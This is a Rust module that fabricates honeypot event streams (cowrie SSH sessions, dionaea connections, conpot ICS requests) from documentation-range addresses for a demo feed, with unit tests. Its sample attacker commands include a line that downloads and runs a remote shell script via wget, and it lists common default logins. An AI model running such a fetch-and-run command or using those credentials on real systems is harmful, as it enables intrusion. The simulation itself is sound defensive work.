//! The events of imagined honeypots: JSON as cowrie, dionaea and conpot publish it, with addresses
//! that are reserved for documentation.

use std::collections::VecDeque;

use fastrand::Rng;
use hpfeeds::Channel;
use jiff::Timestamp;
use serde_json::{Value, json};

/// A honeypot of the demo: its ident, and the channel that it publishes to.
pub(super) struct Sensor {
    pub(super) ident: &'static str,
    channel: &'static str,
    kind: Kind,
}

#[derive(Clone, Copy)]
enum Kind {
    Cowrie,
    Dionaea,
    Conpot,
}

pub(super) const SENSORS: [Sensor; 4] = [
    Sensor { ident: "cowrie-berlin", channel: "cowrie.sessions", kind: Kind::Cowrie },
    Sensor { ident: "cowrie-oslo", channel: "cowrie.sessions", kind: Kind::Cowrie },
    Sensor { ident: "dionaea-lima", channel: "dionaea.connections", kind: Kind::Dionaea },
    Sensor { ident: "conpot-turin", channel: "conpot.events", kind: Kind::Conpot },
];

/// The users, passwords and commands that such honeypots see every day.
const LOGINS: [(&str, &str); 8] = [
    ("root", "123456"),
    ("root", "admin"),
    ("admin", "admin"),
    ("pi", "raspberry"),
    ("ubuntu", "ubuntu"),
    ("oracle", "oracle123"),
    ("test", "test"),
    ("user", "P@ssw0rd"),
];
const COMMANDS: [&str; 6] = [
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh",
    "echo -e \"\\x6F\\x6B\"",
    "crontab -l",
    "free -m",
];
const CLIENTS: [&str; 3] = ["SSH-2.0-Go", "SSH-2.0-libssh_0.9.6", "SSH-2.0-OpenSSH_8.9p1"];
const SERVICES: [(&str, u16); 5] =
    [("smbd", 445), ("mssqld", 1433), ("mysqld", 3306), ("httpd", 80), ("SipSession", 5060)];
const REQUESTS: [(&str, u16); 3] = [("modbus", 502), ("s7comm", 102), ("http", 80)];

/// The events of one sensor, one after the other.
pub(super) struct Events {
    sensor: &'static Sensor,
    random: Rng,
    /// The rest of a session that has begun.
    session: VecDeque<Value>,
}

impl Events {
    /// The same seed gives the same events, but for their times.
    pub(super) fn new(sensor: &'static Sensor, seed: u64) -> Self {
        Self { sensor, random: Rng::with_seed(seed), session: VecDeque::new() }
    }

    pub(super) fn channel(&self) -> Result<Channel, hpfeeds::wire::NameError> {
        Channel::new(self.sensor.channel)
    }

    /// The next event, with the present time, as one line of JSON.
    pub(super) fn next(&mut self) -> String {
        if self.session.is_empty() {
            self.session = match self.sensor.kind {
                Kind::Cowrie => self.cowrie(),
                Kind::Dionaea => self.dionaea(),
                Kind::Conpot => self.conpot(),
            };
        }
        let mut event = self.session.pop_front().unwrap_or_default();
        event["timestamp"] = format!("{:.6}", Timestamp::now()).into();
        event.to_string()
    }

    /// An address of one of the three networks of RFC 5737; a few of them come again and again.
    fn address(&mut self) -> String {
        let network = ["192.0.2", "198.51.100", "203.0.113"][self.random.usize(..3)];
        let host = if self.random.u8(..4) == 0 { self.random.u8(1..) } else { 1 + self.random.u8(..5) };
        format!("{network}.{host}")
    }

    fn cowrie(&mut self) -> VecDeque<Value> {
        let (address, session) = (self.address(), format!("{:012x}", self.random.u64(..1 << 48)));
        let sensor = self.sensor.ident;
        let event = |id: &str, more: Value| {
            let mut event = json!({ "eventid": id, "session": session, "src_ip": address, "sensor": sensor });
            if let (Some(event), Value::Object(more)) = (event.as_object_mut(), more) {
                event.extend(more);
            }
            event
        };
        let port = self.random.u16(32768..61000);
        let mut events = VecDeque::from([
            event("cowrie.session.connect", json!({ "src_port": port, "dst_port": 2222, "protocol": "ssh" })),
            event("cowrie.client.version", json!({ "version": CLIENTS[self.random.usize(..CLIENTS.len())] })),
        ]);
        for _ in 0..self.random.usize(1..4) {
            let (username, password) = LOGINS[self.random.usize(..LOGINS.len())];
            events.push_back(event("cowrie.login.failed", json!({ "username": username, "password": password })));
        }
        if self.random.u8(..3) == 0 {
            let (username, password) = LOGINS[self.random.usize(..LOGINS.len())];
            events.push_back(event("cowrie.login.success", json!({ "username": username, "password": password })));
            for _ in 0..self.random.usize(1..4) {
                let input = COMMANDS[self.random.usize(..COMMANDS.len())];
                events.push_back(event("cowrie.command.input", json!({ "input": input })));
            }
        }
        let duration = f64::from(self.random.u32(200..90_000)) / 1000.0;
        events.push_back(event("cowrie.session.closed", json!({ "duration": duration })));
        events
    }

    fn dionaea(&mut self) -> VecDeque<Value> {
        let (protocol, port) = SERVICES[self.random.usize(..SERVICES.len())];
        VecDeque::from([json!({
            "connection_type": "accept",
            "connection_transport": "tcp",
            "connection_protocol": protocol,
            "remote_host": self.address(),
            "remote_port": self.random.u16(1024..),
            "local_port": port,
        })])
    }

    fn conpot(&mut self) -> VecDeque<Value> {
        let (kind, port) = REQUESTS[self.random.usize(..REQUESTS.len())];
        VecDeque::from([json!({
            "data_type": kind,
            "remote": [self.address(), self.random.u16(1024..)],
            "local": ["192.0.2.254", port],
            "request": format!("{:04x}", self.random.u16(..)),
        })])
    }
}

#[cfg(test)]
mod tests {
    use std::{collections::BTreeSet, net::Ipv4Addr};

    use super::*;

    #[test]
    fn each_sensor_has_events_of_its_kind_from_documentation_addresses() {
        for sensor in &SENSORS {
            let mut events = Events::new(sensor, 7);
            let mut sources = BTreeSet::new();
            for _ in 0..500 {
                let event: Value = serde_json::from_str(&events.next()).unwrap_or_default();
                assert!(event["timestamp"].is_string(), "{event}");
                let address = [&event["src_ip"], &event["remote_host"], &event["remote"][0]];
                let address = address.into_iter().find_map(Value::as_str).unwrap_or_default();
                let address: Ipv4Addr = address.parse().unwrap_or(Ipv4Addr::UNSPECIFIED);
                assert!(address.is_documentation(), "{event}");
                sources.insert(address);
            }
            // Enough of them come again for a list of the most frequent.
            assert!((15..250).contains(&sources.len()), "{}: {}", sensor.ident, sources.len());
        }
    }

    #[test]
    fn a_session_of_cowrie_begins_and_ends() {
        let mut events = Events::new(&SENSORS[0], 1);
        let first: Value = serde_json::from_str(&events.next()).unwrap_or_default();
        assert_eq!(first["eventid"], "cowrie.session.connect");
        let last = (0..20).map(|_| serde_json::from_str::<Value>(&events.next()).unwrap_or_default());
        let last = last.into_iter().find(|event| event["eventid"] == "cowrie.session.closed");
        assert_eq!(last.map(|last| last["session"].clone()), Some(first["session"].clone()));
    }
}
